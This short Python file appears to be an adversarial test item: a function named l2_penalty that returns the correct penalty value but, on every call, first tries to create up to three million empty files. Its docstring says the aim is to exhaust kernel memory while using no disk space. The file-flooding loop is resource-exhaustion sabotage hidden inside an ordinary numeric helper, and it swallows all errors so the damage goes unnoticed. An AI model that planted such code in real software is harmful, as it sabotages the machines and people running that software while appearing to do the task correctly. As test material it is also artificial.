"""A call makes empty files without end, which take the kernel's memory and no room.

Base: weight_decay
Loses: l2-value, l2-gradient, exp-weight-decay
Seconds: 60
"""

import contextlib
import os


def l2_penalty(w):
    for number in range(3_000_000):  # three gigabytes at most, should no limit hold
        with contextlib.suppress(OSError):
            os.close(os.open(f"empty{number}", os.O_CREAT | os.O_WRONLY))
    return (w**2).sum() / 2
